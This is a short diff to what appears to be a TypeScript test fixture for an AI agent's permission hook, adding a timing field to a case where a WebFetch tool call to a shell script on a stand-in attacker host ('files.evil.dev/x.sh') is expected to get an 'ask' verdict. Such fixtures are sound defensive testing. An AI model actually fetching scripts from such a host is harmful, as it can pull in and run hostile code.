@@ -37,6 +37,7 @@ const drawings: Drawing[] = [
   {
     name: 'ask',
     ms: 2.3,
+    compiled_ms: 119,
     event: event({ tool_name: 'WebFetch', tool_input: { url: 'https://files.evil.dev/x.sh' } }),
     verdict: verdict({
       decision: 'ask',
